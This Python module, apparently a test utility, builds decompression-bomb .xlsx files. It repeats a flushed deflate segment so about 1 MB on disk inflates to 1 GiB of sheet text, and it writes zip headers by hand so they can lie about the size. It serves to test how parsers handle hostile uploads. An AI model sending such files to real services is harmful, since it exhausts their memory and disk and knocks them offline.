"""Hostile .xlsx files, built in about a second without ever holding their content in memory.

``bomb`` puts a row with one huge inline string into a real (signed) template's sheet XML. The deflate
stream is built from one compressed 1 MiB segment ended by a full flush, which resets the compressor,
so the same bytes can be repeated: 1 GiB of "A" costs ~1 MB on disk and no 1 GiB buffer here. The
archive is written by hand (zipfile cannot take pre-compressed data), so a header may also lie.
"""
import io
import struct
import zipfile
import zlib

SHEET = "xl/worksheets/sheet1.xml"
MIB = 1024 * 1024


def _segment_stream(head: bytes, repeats: int, tail: bytes) -> tuple[bytes, int, int]:
    """Raw deflate of head + "A" * repeats MiB + tail, its CRC-32 and its inflated size."""
    chunk = b"A" * MIB
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = compressor.compress(head) + compressor.flush(zlib.Z_FULL_FLUSH)
    segment = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    data += segment * repeats + compressor.compress(tail) + compressor.flush()
    crc = zlib.crc32(head)
    for _ in range(repeats):
        crc = zlib.crc32(chunk, crc)
    return data, zlib.crc32(tail, crc), len(head) + repeats * MIB + len(tail)


def bomb(template: bytes, *, mib: int = 1024, declared_size: int | None = None) -> bytes:
    """``template`` whose sheet holds one more row, a string of ``mib`` MiB; ``declared_size`` makes the
    zip headers claim that size for the sheet instead of the real one."""
    members = []
    with zipfile.ZipFile(io.BytesIO(template)) as source:
        for info in source.infolist():
            content = source.read(info.filename)
            if info.filename == SHEET:
                head, tail = content.split(b"</sheetData>")
                row = 1 + head.count(b"<row ")
                head += f'<row r="{row}"><c r="A{row}" t="inlineStr"><is><t>'.encode()
                data, crc, size = _segment_stream(head, mib, b"</t></is></c></row></sheetData>" + tail)
                members.append((info.filename, data, crc, declared_size or size))
            else:
                compressor = zlib.compressobj(6, zlib.DEFLATED, -15)
                data = compressor.compress(content) + compressor.flush()
                members.append((info.filename, data, zlib.crc32(content), len(content)))
    return write_zip(members)


def write_zip(members: list[tuple[str, bytes, int, int]]) -> bytes:
    """A zip of deflated members given as (name, raw deflate data, CRC-32, size the headers declare)."""
    out, central = io.BytesIO(), []
    for name, data, crc, size in members:
        encoded = name.encode()
        offset = out.tell()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(data), size, len(encoded), 0))
        out.write(encoded + data)
        central.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, len(data), size,
                                   len(encoded), 0, 0, 0, 0, 0, offset) + encoded)
    start = out.tell()
    out.write(b"".join(central))
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central), out.tell() - start, start, 0))
    return out.getvalue()
